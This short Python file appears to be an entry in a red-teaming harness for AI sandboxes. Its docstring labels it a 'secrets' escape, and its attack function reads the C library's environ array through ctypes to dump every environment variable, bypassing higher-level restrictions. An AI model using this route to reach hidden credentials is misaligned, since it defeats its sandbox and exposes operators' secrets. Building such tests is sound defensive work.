"""Class: secrets. Source: own find. Escape: the C library's own array of variables."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    array = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    found = []
    for index in range(1000):
        if not array or not array[index]:
            break
        found.append(array[index])
    return found
